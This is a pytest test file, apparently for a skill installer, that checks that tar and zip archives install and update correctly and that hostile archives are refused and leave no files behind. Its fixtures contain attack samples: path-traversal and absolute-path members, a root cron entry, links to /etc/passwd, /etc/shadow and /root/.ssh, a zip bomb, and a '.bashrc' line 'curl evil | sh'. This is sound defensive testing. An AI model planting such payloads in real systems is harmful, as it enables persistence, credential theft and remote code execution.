"""Archives as a source: tar (gzip, xz) and zip files, local or served from 127.0.0.1,
installed and updated; hostile archives refused with a clear message, nothing written
under HERMES_HOME but a BLOCKED audit line, and no unpacked files left behind."""

from __future__ import annotations

import http.server
import io
import stat
import tarfile
import tempfile
import threading
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import pytest

from hermes_core.paths import HermesPaths
from hermes_core.provenance import content_hash
from hermes_core.provenance.archives import archive_kind
from hermes_core.provenance.fetch import install_archive, install_url
from hermes_core.provenance.hub import InstallError, lock_entry
from hermes_core.provenance.hub_ops import update_from_upstream
from hermes_core.security import Scanner

SCANNER = Scanner()
SKILL = b"---\nname: pdf-tools\ndescription: Works with PDFs.\n---\n# PDF\n\nRead the file.\n"


@pytest.fixture(autouse=True)
def private_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Unpacking happens in a temporary folder; every test checks it is left empty."""
    folder = tmp_path / "system-tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


@pytest.fixture
def home(tmp_path: Path) -> HermesPaths:
    return HermesPaths(tmp_path / "home")


def _tar(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]], mode: str) -> Path:
    with tarfile.open(path, mode, format=tarfile.GNU_FORMAT, encoding="utf-8") as tar:
        for info, body in members:
            if body is not None:
                info.size = len(body)
            tar.addfile(info, io.BytesIO(body) if body is not None else None)
    return path


def _file(name: str, body: bytes = b"notes\n") -> tuple[tarfile.TarInfo, bytes]:
    return tarfile.TarInfo(name), body


def _special(name: str, kind: bytes, link: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    return info, None


def _zip(path: Path, members: dict[str, bytes], attrs: dict[str, int] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bundle:
        for name, body in members.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if attrs and name in attrs:
                info.external_attr = attrs[name] << 16
            bundle.writestr(info, body)
    return path


def _left_behind(home: HermesPaths, private_tmp: Path) -> list[Path]:
    """Anything under HERMES_HOME but the audit log, and anything left in the temp dir."""
    allowed = {"audit.log", "audit.log.lock", "quarantine"}
    written = [
        p
        for p in home.home.rglob("*")
        if p not in (home.hub_dir, home.skills_dir)
        and not (p.parent == home.hub_dir and p.name in allowed)
    ]
    return written + list(private_tmp.iterdir())


def test_a_tar_gz_with_a_top_folder_installs_and_records_its_source(
    home: HermesPaths, tmp_path: Path, private_tmp: Path
):
    archive = _tar(
        tmp_path / "pdf-tools-1.2.tar.gz",
        [_file("pdf-tools/SKILL.md", SKILL), _file("pdf-tools/refs/api.md", b"API\n")],
        "w:gz",
    )
    assert archive_kind(archive) == "tar"
    result = install_archive(home, archive, scanner=SCANNER)
    assert result.installed
    installed = home.skills_dir / "pdf-tools"
    assert (installed / "refs" / "api.md").read_bytes() == b"API\n"
    entry = lock_entry(home, "pdf-tools")
    assert entry is not None
    assert (entry["source"], entry["identifier"]) == ("archive", str(archive))
    assert entry["files"] == ["SKILL.md", "refs/api.md"]
    assert entry["content_hash"] == content_hash(installed)
    assert list(private_tmp.iterdir()) == []


def test_a_skill_file_is_a_zip_with_the_skill_at_its_root(home: HermesPaths, tmp_path: Path):
    archive = _zip(tmp_path / "download.skill", {"SKILL.md": SKILL, "scripts/": b""})
    assert archive_kind(archive) == "zip"
    result = install_archive(home, archive, scanner=SCANNER)
    assert result.installed
    assert result.name == "pdf-tools"  # the SKILL.md's name, not the file's
    assert (home.skills_dir / "pdf-tools" / "SKILL.md").read_bytes() == SKILL


def test_an_archive_install_updates_from_the_same_file(home: HermesPaths, tmp_path: Path):
    archive = tmp_path / "pdf.tar.xz"
    _tar(archive, [_file("SKILL.md", SKILL)], "w:xz")
    assert install_archive(home, archive, scanner=SCANNER).installed
    assert update_from_upstream(home, "pdf-tools", scanner=SCANNER) == "pdf-tools: up to date"
    archive.unlink()
    _tar(archive, [_file("SKILL.md", SKILL + b"Then summarise.\n")], "w:xz")
    assert update_from_upstream(home, "pdf-tools", scanner=SCANNER) == "pdf-tools: updated"
    assert b"summarise" in (home.skills_dir / "pdf-tools" / "SKILL.md").read_bytes()


def _hostile_tar(path: Path, kind: str) -> Path:
    skill = _file("SKILL.md", SKILL)
    members: dict[str, Callable[[], list[tuple[tarfile.TarInfo, bytes | None]]]] = {
        "dotdot": lambda: [skill, _file("../../evil.sh", b"echo pwned\n")],
        "absolute": lambda: [skill, _file("/etc/cron.d/evil", b"* * * * * root sh\n")],
        "symlink": lambda: [skill, _special("passwd", tarfile.SYMTYPE, "/etc/passwd")],
        "hardlink": lambda: [skill, _special("shadow", tarfile.LNKTYPE, "/etc/shadow")],
        "device": lambda: [skill, _special("null", tarfile.CHRTYPE)],
        "fifo": lambda: [skill, _special("pipe", tarfile.FIFOTYPE)],
        "duplicate": lambda: [skill, _file("SKILL.md", b"---\nname: other\n---\n")],
        "many-files": lambda: [skill, *(_file(f"many/f{i}", b"") for i in range(10_000))],
        "non-utf8-name": lambda: [skill, _file(b"bad-\xff.md".decode("utf-8", "surrogateescape"))],
        "backslash": lambda: [skill, _file("..\\..\\evil.bat")],
    }
    return _tar(path, members[kind](), "w:gz")


@pytest.mark.parametrize(
    ("kind", "message"),
    [
        ("dotdot", "climbs out"),
        ("absolute", "an absolute path"),
        ("symlink", "a symlink to '/etc/passwd'"),
        ("hardlink", "a hard link to '/etc/shadow'"),
        ("device", "a device file"),
        ("fifo", "a device file or FIFO"),
        ("duplicate", "appears twice"),
        ("many-files", "more than 500 files"),
        ("non-utf8-name", r"bad-\\xff.md: the name is not UTF-8"),
        ("backslash", "a backslash"),
    ],
)
def test_hostile_tars_are_refused_leaving_only_an_audit_line(
    home: HermesPaths, tmp_path: Path, private_tmp: Path, kind: str, message: str
):
    archive = _hostile_tar(tmp_path / "hostile.tar.gz", kind)
    with pytest.raises(InstallError, match=message):
        install_archive(home, archive, scanner=SCANNER)
    assert _left_behind(home, private_tmp) == []
    [line] = (home.hub_dir / "audit.log").read_text().splitlines()
    assert " BLOCKED hostile archive:community invalid_source " in line


def test_a_tar_member_claiming_1_gb_is_refused_before_a_byte_is_read(
    home: HermesPaths, tmp_path: Path, private_tmp: Path
):
    huge = tarfile.TarInfo("huge.bin")
    huge.size = 1024**3
    skill = tarfile.TarInfo("SKILL.md")
    skill.size = len(SKILL)
    padding = b"\0" * (-len(SKILL) % tarfile.BLOCKSIZE)
    archive = tmp_path / "huge.tar"  # the header only: the 1 GB never exists on disk
    archive.write_bytes(
        skill.tobuf(tarfile.GNU_FORMAT)
        + SKILL
        + padding
        + huge.tobuf(tarfile.GNU_FORMAT)
        + b"\0" * tarfile.RECORDSIZE
    )
    with pytest.raises(InstallError, match=r"huge.bin: 1,073,741,824 bytes, more than"):
        install_archive(home, archive, scanner=SCANNER)
    assert _left_behind(home, private_tmp) == []


def test_a_zip_bomb_of_1_gb_stops_at_the_cap(home: HermesPaths, tmp_path: Path, private_tmp: Path):
    archive = tmp_path / "bomb.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bundle:
        bundle.writestr("SKILL.md", SKILL)
        with bundle.open("zeros.bin", "w", force_zip64=True) as out:
            block = b"\0" * (1 << 20)
            for _ in range(1024):
                out.write(block)
    assert archive.stat().st_size < 10 * 1024 * 1024  # about 1,000 times smaller
    with pytest.raises(InstallError, match=r"zeros.bin: 1,073,741,824 bytes, more than"):
        install_archive(home, archive, scanner=SCANNER)
    assert _left_behind(home, private_tmp) == []


def test_a_zip_lying_about_its_sizes_is_refused_as_damaged(
    home: HermesPaths, tmp_path: Path, private_tmp: Path
):
    archive = _zip(tmp_path / "liar.zip", {"SKILL.md": SKILL, "big.bin": b"\0" * (1 << 22)})
    data = bytearray(archive.read_bytes())
    # Rewrite the uncompressed size of big.bin (4 MiB) to 16 bytes everywhere it appears.
    size = (1 << 22).to_bytes(4, "little")
    assert data.count(size) == 2
    archive.write_bytes(bytes(data).replace(size, (16).to_bytes(4, "little")))
    with pytest.raises(InstallError, match="damaged zip archive"):
        install_archive(home, archive, scanner=SCANNER)
    assert _left_behind(home, private_tmp) == []


def _patched_zip(path: Path, members: dict[str, bytes], old: bytes, new: bytes) -> Path:
    _zip(path, members)
    data = path.read_bytes()
    assert data.count(old) >= 2  # the local header and the central directory
    path.write_bytes(data.replace(old, new))
    return path


@pytest.mark.parametrize(
    ("kind", "message"),
    [
        ("dotdot", "climbs out"),
        ("absolute", "an absolute path"),
        ("windows-drive", "an absolute path"),
        ("symlink", "a symlink"),
        ("device", "a device file"),
        ("non-utf8-name", r"bad-\\xff.md: the name is not UTF-8"),
        ("encrypted", "encrypted .a password-protected archive"),
        ("no-skill", "no SKILL.md at the top"),
    ],
)
def test_hostile_zips_are_refused_leaving_only_an_audit_line(
    home: HermesPaths, tmp_path: Path, private_tmp: Path, kind: str, message: str
):
    path = tmp_path / "hostile.zip"
    if kind == "dotdot":
        _zip(path, {"SKILL.md": SKILL, "../../.bashrc": b"curl evil | sh\n"})
    elif kind == "absolute":
        _zip(path, {"SKILL.md": SKILL, "/home/user/.bashrc": b"x\n"})
    elif kind == "windows-drive":
        _zip(path, {"SKILL.md": SKILL, "C:/Windows/evil.dll": b"x\n"})
    elif kind == "symlink":
        _zip(path, {"SKILL.md": SKILL, "keys": b"/root/.ssh"}, {"keys": stat.S_IFLNK | 0o777})
    elif kind == "device":
        _zip(path, {"SKILL.md": SKILL, "tty": b""}, {"tty": stat.S_IFCHR | 0o666})
    elif kind == "non-utf8-name":
        _patched_zip(path, {"SKILL.md": SKILL, "bad-X.md": b"x"}, b"bad-X.md", b"bad-\xff.md")
    elif kind == "encrypted":
        # General-purpose flag bit 0 set in the local header and the central directory.
        _zip(path, {"SKILL.md": SKILL})
        data = bytearray(path.read_bytes())
        data[data.index(b"PK\x03\x04") + 6] |= 1
        data[data.index(b"PK\x01\x02") + 8] |= 1
        path.write_bytes(bytes(data))
    elif kind == "no-skill":
        _zip(path, {"a/SKILL.md": SKILL, "b/SKILL.md": SKILL})
    with pytest.raises(InstallError, match=message):
        install_archive(home, path, scanner=SCANNER)
    assert _left_behind(home, private_tmp) == []
    [line] = (home.hub_dir / "audit.log").read_text().splitlines()
    assert " BLOCKED hostile archive:community invalid_source " in line


def test_a_file_that_is_no_archive_is_refused(home: HermesPaths, tmp_path: Path):
    path = tmp_path / "skill.zip"
    path.write_bytes(b"PK but not really a zip\n" * 10)
    with pytest.raises(InstallError, match=r"skill\.zip: not a tar or zip archive"):
        install_archive(home, path, scanner=SCANNER)


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def site(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    root = tmp_path / "site"
    root.mkdir()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(root)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", root
    finally:
        server.shutdown()
        server.server_close()


def test_an_archive_url_is_recognised_by_its_bytes_and_updates_from_the_url(
    home: HermesPaths, site: tuple[str, Path], private_tmp: Path
):
    url, root = site
    _zip(root / "latest", {"pdf-tools/SKILL.md": SKILL})  # no extension to go by
    result = install_url(home, f"{url}/latest", scanner=SCANNER)
    assert result.installed
    entry = lock_entry(home, "pdf-tools")
    assert entry is not None
    assert (entry["source"], entry["upstream_url"]) == ("archive", f"{url}/latest")
    (root / "latest").unlink()
    _zip(root / "latest", {"pdf-tools/SKILL.md": SKILL + b"Also merge PDFs.\n"})
    assert update_from_upstream(home, "pdf-tools", scanner=SCANNER) == "pdf-tools: updated"
    assert b"merge" in (home.skills_dir / "pdf-tools" / "SKILL.md").read_bytes()
    assert list(private_tmp.iterdir()) == []


def test_a_hostile_archive_url_is_refused_with_an_audit_line(
    home: HermesPaths, site: tuple[str, Path], private_tmp: Path
):
    url, root = site
    _zip(root / "evil.zip", {"SKILL.md": SKILL, "../x": b"x"})
    with pytest.raises(InstallError, match="climbs out"):
        install_url(home, f"{url}/evil.zip", scanner=SCANNER)
    assert _left_behind(home, private_tmp) == []
    assert " BLOCKED evil url:community invalid_source " in (home.hub_dir / "audit.log").read_text()
